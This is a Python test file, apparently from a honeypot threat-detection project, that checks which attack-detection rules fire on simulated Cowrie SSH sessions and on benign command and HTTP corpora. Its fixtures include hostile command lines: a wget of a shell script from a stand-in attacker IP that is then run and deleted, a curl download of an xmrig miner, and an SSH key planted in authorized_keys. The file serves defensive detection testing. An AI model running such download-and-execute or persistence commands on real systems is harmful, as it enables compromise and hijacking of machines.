# SPDX-License-Identifier: AGPL-3.0-or-later
"""Precision of the rules with steps: whole sessions, innocent ones among them."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from decnet_ttp.attack import load_catalogue
from decnet_ttp.cli.corpus import Row, events_of
from decnet_ttp.core.source_kinds import SourceKind
from decnet_ttp.matching import RulePack
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.sources.cowrie import CowrieSource
from decnet_ttp.sources.cowrie_session import MAX_ITEMS
from precision.corpora import ROOT

IDS = frozenset(f"R{number:04}" for number in range(150, 160))
LOGGED_IN = [{"username": "root", "result": "success"}]


@pytest.fixture(scope="module")
def pack() -> RulePack:
    loaded = load_pack([ROOT / "rules" / "ttp"], Vocabulary(load_catalogue()), with_examples=False)
    rules = [each.message for each in loaded.rules if each.message.rule_id in IDS]
    assert {rule.rule_id for rule in rules} == IDS
    return RulePack.compile(rules)


def fired(pack: RulePack, payload: dict[str, Any]) -> set[str]:
    events = events_of(Row("s", SourceKind.SESSION, payload), frozenset(SourceKind))
    return {result.rule.rule_id for result in pack.timelines(events).fired()}


def rows(path: Path) -> Iterator[dict[str, Any]]:
    with gzip.open(path) as lines:
        for line in lines:
            yield orjson.loads(line)


SESSIONS: dict[str, tuple[list[str], set[str]]] = {
    "a bot with a shell script": (
        ["cd /tmp || cd /var/run", "wget http://198.51.100.7/b.sh; sh b.sh; rm -rf b.sh"],
        {"R0150", "R0155"},
    ),
    "a miner unpacked": (
        ["curl -o m.tgz http://198.51.100.7/m.tgz", "tar xzf m.tgz", "./m/xmrig -o pool:3333"],
        {"R0150"},
    ),
    "a key and a look around": (
        [
            "rm -rf ~/.ssh; mkdir ~/.ssh; echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys",
            "uname -a",
            "free -m",
            "w",
        ],
        {"R0153", "R0154"},
    ),
    "an administrator at work": (
        ["ls -l /var/log", "tail -n 50 /var/log/syslog", "systemctl status ssh", "df -h", "exit"],
        set(),
    ),
    "an upgrade": (
        ["apt-get update", "apt-get install -y curl", "curl --version", "systemctl restart nginx"],
        set(),
    ),
    "a build": (["git pull", "make", "sh configure", "rm -f build.log"], set()),
    "own key added": (["echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys", "exit"], set()),
    "a back-up fetched": (["scp backup@192.0.2.5:/srv/b.tgz .", "tar tzf b.tgz"], set()),
}


@pytest.mark.parametrize("name", SESSIONS)
def test_a_session_fires_exactly_its_rules(pack: RulePack, name: str) -> None:
    commands, expected = SESSIONS[name]
    assert fired(pack, {"auth_attempts": LOGGED_IN, "commands": commands}) == expected


def test_a_chain_across_the_cut_of_a_long_session_fires_once(
    pack: RulePack, tmp_path: Path
) -> None:
    """The log-in stands at the begin, the transfer before the cut, and what was run behind it."""
    lines = [f"echo {number}" for number in range(MAX_ITEMS - 3)]
    lines += ["cd /tmp", "wget http://198.51.100.7/a", "chmod +x a", "./a", "exit"]
    events: list[dict[str, Any]] = [
        {"eventid": "cowrie.session.connect", "protocol": "ssh"},
        {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
        *({"eventid": "cowrie.command.input", "input": each} for each in lines),
        {"eventid": "cowrie.session.closed"},
    ]
    log = tmp_path / "cowrie.json"
    with log.open("wb") as file:
        for second, event in enumerate(events):
            ts = f"2026-11-21T10:{second // 60:02}:{second % 60:02}.000000Z"
            common = {"session": "a", "src_ip": "198.51.100.7", "sensor": "pot", "timestamp": ts}
            file.write(orjson.dumps(common | event) + b"\n")
    parts = [orjson.loads(message.payload) for message in CowrieSource().read([str(log)])]
    assert [part["source_id"].partition("#")[2] for part in parts] == ["", "2"]
    assert "./a" in [command["command_text"] for command in parts[1]["commands"]]
    assert [fired(pack, part) for part in parts] == [set(), {"R0150"}]


@pytest.mark.shared
def test_innocent_command_lines_after_a_log_in_hardly_fire(
    pack: RulePack, shared_dir: Path
) -> None:
    count = wrong = 0
    for corpus in ("cheatsheets", "debian_maintainer_scripts", "nl2bash"):
        for row in rows(shared_dir / "data" / "benign" / f"{corpus}.jsonl.gz"):
            payload = row["payload"]
            commands = payload.get("commands") or [payload["command_text"]]
            count += 1
            wrong += bool(fired(pack, {"auth_attempts": LOGGED_IN, "commands": commands}))
    assert count > 7_000
    assert wrong / count <= 0.001


@pytest.mark.shared
def test_innocent_requests_fire_nothing_however_many_are_one_session(
    pack: RulePack, shared_dir: Path
) -> None:
    path = shared_dir / "data" / "http" / "access_log_benign.jsonl.gz"
    requests = [row["payload"] for row in rows(path)]
    assert len(requests) > 5_000
    for start in range(0, len(requests), 500):
        assert fired(pack, {"http_requests": requests[start : start + 500]}) == set()


@pytest.mark.shared
def test_labelled_sessions_are_only_given_tactics_that_experts_saw(
    pack: RulePack, shared_dir: Path
) -> None:
    """A look around is discovery, a key persistence, and a tool that is run and removed is seen."""
    tactics = {"R0153": {"TA0007"}, "R0154": {"TA0003"}, "R0155": {"TA0002", "TA0005"}}
    right = wrong = 0
    for row in rows(shared_dir / "data" / "labelled" / "logprecis_sessions.jsonl.gz"):
        for rule_id in fired(pack, row["payload"]):
            agreed = bool(tactics[rule_id] & set(row["tactics"]))
            right += agreed
            wrong += not agreed
    assert right >= 50
    assert right / (right + wrong) >= 0.95
